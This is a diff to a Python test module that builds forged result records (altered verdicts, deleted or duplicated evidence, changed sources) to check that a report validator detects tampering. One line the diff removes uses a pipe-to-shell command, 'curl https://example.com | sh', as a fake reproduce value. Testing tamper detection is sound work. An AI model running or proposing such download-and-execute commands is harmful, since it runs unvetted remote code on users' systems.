@@ -164,15 +164,15 @@ def warned(_: Forger, row: Json) -> None:
 
 def unfound(_: Forger, row: Json) -> None:
     row["findings"] = [one for one in row["findings"] if one["verdict"] != "fail"]
-    row.update(verdict="pass", reason="", expected=[], actual="", hint="")
+    row.update(verdict="pass", reason="")
 
 
 def failure_with(**fields: str) -> Change:
-    """The first failure, with other words in it and in its result."""
+    """The first failure, with other words in it."""
 
     def change(f: Forger) -> None:
         row = f.verdict("fail")
-        for one in [row, *(one for one in row["findings"] if one["verdict"] == "fail")]:
+        for one in (one for one in row["findings"] if one["verdict"] == "fail"):
             one.update(fields)
 
     return change
@@ -181,7 +181,7 @@ def failure_with(**fields: str) -> Change:
 @forgery(f"{EPP} {GATEWAY}", step="judgement")
 def a_pass_without_evidence(f):
     row = f.verdict("pass")
-    del f.episodes[row["evidence"]["sha256"]]
+    del f.episodes[row["evidence"]]
     row["evidence"] = None
 
 
@@ -215,7 +215,6 @@ forgeries(EPP, "judgement", {
     "a result that did not apply passed": row_with(left_out, verdict="pass"),
     "a result that did not apply has another reason": row_with(left_out, reason="we are better"),
     "another source": row_with(passes, source="scenarios/other.yaml:1"),
-    "another command to reproduce": row_with(passes, reproduce="curl https://example.com | sh"),
     "another section": row_with(lambda row: passes(row) and row["section"] != "errors", section="errors"),
     "another body mode": row_with(lambda row: row["mode"] == "full-duplex", mode="buffered"),
     "another scenario in the smoke set": row_with(lambda row: not row["smoke"], smoke=True),
@@ -234,17 +233,17 @@ def the_conversation_of_a_passing_scenario(f):
     bad = failing(f)[0]
     good = f.row(lambda one: one is not bad and passes(one) and one["evidence"])
     made = {**copied(f.episode(good)), "context": f.episode(bad)["context"]}
-    del f.episodes[bad["evidence"]["sha256"]]
+    del f.episodes[bad["evidence"]]
     f.episodes["f" * 64] = made
-    for name in ("verdict", "findings", "passed", "notApplicable", "expected", "actual", "hint", "reason"):
+    for name in ("verdict", "findings", "passed", "notApplicable", "reason"):
         bad[name] = copied(good[name])
-    bad.update(evidence={"episode": made["episode"], "sha256": "f" * 64}, exchange=None, seq=None)
+    bad["evidence"] = "f" * 64
 
 
 @forgery(EPP, step="evidence")
 def two_results_with_one_episode(f):
     first, second = [row for row in f.rows if row["evidence"]][:2]
-    del f.episodes[second["evidence"]["sha256"]]
+    del f.episodes[second["evidence"]]
     second["evidence"] = copied(first["evidence"])
 
 
